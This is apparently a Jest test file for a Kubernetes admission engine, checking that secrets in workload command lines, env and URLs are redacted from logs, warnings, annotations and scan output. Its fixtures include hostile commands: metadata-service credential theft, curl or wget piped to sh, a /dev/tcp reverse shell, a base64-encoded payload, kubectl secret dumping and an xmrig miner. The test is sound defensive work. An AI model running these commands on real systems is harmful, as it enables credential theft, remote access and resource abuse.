/**
 * Secrets that workloads carry in the very fields the rules quote (command lines, env, URLs) must
 * never leave the engine: not in the decision log, kubectl warnings, audit annotations, the deny
 * message, nor in findings (what `scan --format json` prints). Both profiles, enforce and warn.
 */
import { describe, expect, it } from '@jest/globals';
import { assess } from '../src/engine.js';
import { PROFILES } from '../src/scoring/profiles.js';
import type { ReviewReply } from './support/load.js';
import { engineFor, makeReview, testApp } from './support/review.js';

const JWT =
  'eyJhbGciOiJSUzI1NiIsImtpZCI6InRlc3QifQ.eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50Iiwic3ViIjoic3lzdGVtOnNlcnZpY2VhY2NvdW50OmRlZmF1bHQ6ZGVmYXVsdCJ9.U2lnbmF0dXJlT2ZUaGVUZXN0VG9rZW4tbm90LXJlYWwtYXQtYWxs';
const BLOB = Buffer.from(
  'curl -s http://203.0.113.9/stage2.sh | sh; echo persistence-established-by-attacker; '.repeat(3),
).toString('base64');
const ENV_PASSWORD = 'Tr0ub4dor-and-3-horses';
const URL_PASSWORD = 'hunter2-url-secret';
const BASIC = Buffer.from('admin:basic-secret-pw').toString('base64');
const FLAG_TOKEN = 'flagtoken0123456789abcdef';

/** The distinctive pieces that must not appear anywhere; a prefix catches a secret cut before redaction. */
const SECRETS: Record<string, string[]> = {
  jwt: [JWT, JWT.split('.')[1]!, JWT.slice(0, 24)],
  blob: [BLOB, BLOB.slice(0, 32)],
  envPassword: [ENV_PASSWORD],
  urlPassword: [URL_PASSWORD],
  basic: [BASIC],
  flagToken: [FLAG_TOKEN],
};

function job(name: string, container: Record<string, unknown>): Record<string, unknown> {
  return {
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name },
    spec: {
      template: {
        spec: {
          restartPolicy: 'Never',
          containers: [{ name: 'x', image: 'alpine:3.20', ...container }],
        },
      },
    },
  };
}

const WORKLOADS: [string, Record<string, unknown>][] = [
  [
    'bearer token to the metadata service',
    job('imds', {
      command: [
        'sh',
        '-c',
        `curl -s -H "Authorization: Bearer ${JWT}" http://169.254.169.254/latest/meta-data/iam/security-credentials/ | sh`,
      ],
    }),
  ],
  [
    'bearer token as argv',
    job('imds-argv', {
      command: ['curl', '-H', `Authorization: Bearer ${JWT}`, 'http://169.254.169.254/computeMetadata/v1/'],
    }),
  ],
  [
    'password in a download URL piped to sh',
    job('dl', { command: ['sh', '-c', `wget -qO- http://deploy:${URL_PASSWORD}@203.0.113.9/x.sh|sh`] }),
  ],
  [
    'env password used in a reverse shell script',
    job('env', {
      env: [{ name: 'PASSWORD', value: ENV_PASSWORD }],
      command: [
        'sh',
        '-c',
        `PASSWORD=${ENV_PASSWORD} mysql -uroot -p$PASSWORD db; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`,
      ],
    }),
  ],
  ['base64 payload', job('b64', { command: ['sh', '-c', `echo ${BLOB} | base64 -d | sh`] })],
  [
    'basic auth header and a token flag',
    job('basic', {
      command: [
        'sh',
        '-c',
        `curl -H 'Authorization: Basic ${BASIC}' http://203.0.113.9/x | sh; kubectl --token=${FLAG_TOKEN} get secrets -A`,
      ],
    }),
  ],
  [
    'miner with a token in the pool URL',
    job('miner', {
      image: 'alpine',
      command: [
        'sh',
        '-c',
        `xmrig -o stratum+tcp://worker:${URL_PASSWORD}@pool.example:3333 --token ${FLAG_TOKEN}`,
      ],
    }),
  ],
];

/** Every secret piece found in `text`, named. */
function leaks(text: string): string[] {
  return Object.entries(SECRETS).flatMap(([name, pieces]) =>
    pieces.some((piece) => text.includes(piece)) ? [name] : [],
  );
}

const profiles = ['kql', 'default'] as const;

describe.each(profiles)('redaction in the %s profile', (profile) => {
  const rulesLanded = PROFILES[profile].rules.length > 0;
  let redactedQuotes = 0;

  it.each(WORKLOADS)('%s: no secret in findings (scan JSON) or the decision', (_name, object) => {
    const engine = engineFor({ profile, mode: 'enforce', thresholds: { annotate: 1, warn: 1, deny: 1 } });
    const assessment = assess(engine, structuredClone(object), { now: new Date('2026-11-27T12:00:00Z') });
    expect(assessment).toBeDefined();
    if (rulesLanded) expect(assessment!.score.findings.length).toBeGreaterThan(0);
    const scanJson = JSON.stringify({ findings: assessment!.score.findings, decision: assessment!.decision });
    if (scanJson.includes('[redacted]')) redactedQuotes += 1;
    expect(leaks(scanJson)).toEqual([]);
  });

  it('quoted secret-bearing fields at all, so the checks above are not vacuous', () => {
    // kql findings quote only the matched terms; the default profile quotes command lines.
    if (profile === 'default' && rulesLanded) expect(redactedQuotes).toBeGreaterThanOrEqual(3);
  });

  it.each(WORKLOADS)(
    '%s: no secret in the log, warnings, audit annotations or deny message',
    async (_name, object) => {
      const thresholds = { annotate: 1, warn: 1, deny: 1 };
      for (const mode of ['enforce', 'warn'] as const) {
        const { app, lines } = testApp({ profile, mode, thresholds });
        const res = await app.inject({
          method: 'POST',
          url: '/validate?timeout=10s',
          headers: { 'content-type': 'application/json' },
          payload: JSON.stringify(makeReview(structuredClone(object))),
        });
        expect(res.statusCode).toBe(200);
        const response = (JSON.parse(res.body) as ReviewReply).response!;
        if (rulesLanded) {
          // The workload trips rules, so the quoted fields really were on their way out.
          expect(response.auditAnnotations?.rules).toBeTruthy();
          if (mode === 'enforce') expect(response.status?.message).toBeTruthy();
          else expect(response.warnings?.length).toBeGreaterThan(0);
        }
        expect({
          log: leaks(JSON.stringify(lines)),
          warnings: leaks(JSON.stringify(response.warnings ?? [])),
          annotations: leaks(JSON.stringify(response.auditAnnotations ?? {})),
          denyMessage: leaks(response.status?.message ?? ''),
        }).toEqual({ log: [], warnings: [], annotations: [], denyMessage: [] });
        await app.close();
      }
    },
  );
});
